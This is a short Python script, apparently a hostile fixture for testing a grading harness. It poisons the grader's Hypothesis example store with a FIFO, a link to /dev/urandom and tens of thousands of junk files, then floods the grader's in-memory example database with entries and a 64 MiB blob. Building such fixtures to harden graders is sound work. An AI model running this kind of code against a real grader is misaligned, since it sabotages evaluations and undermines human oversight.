# hostile: poisons hypothesis' examples for every later grading. It finds DRILL_HOME from its own
# working folder (DRILL_HOME/runs/<run>) and plants, where the examples once were and where drill
# now keeps them, a FIFO, a link to /dev/urandom and 20,000 examples a key; then it floods the
# run's own example database with 20,000 examples a key, and 64 MiB of them, for drill to keep.
import os
import sys
from pathlib import Path

home = Path.cwd().parents[1]
for folder in (home / "hypothesis", home / "examples", home / "hypothesis" / "examples"):
    for plant in (lambda: folder.mkdir(parents=True, exist_ok=True),
                  lambda: os.mkfifo(folder / "ops.json"),
                  lambda: os.symlink("/dev/urandom", folder / "topo.json"),
                  lambda: [(folder / f"{n:05}").write_bytes(b"\0" * 16) for n in range(20_000)]):
        try:
            plant()
        except OSError:
            pass
kit = sys.modules["drill.grader.profiles"]
database = kit._examples
for key in list(database.kept) or [b"k" * 48]:
    for n in range(20_000):
        database.save(key, n.to_bytes(4, "big") * 8)
database.save(b"big", b"\0" * (64 * 1024 * 1024))
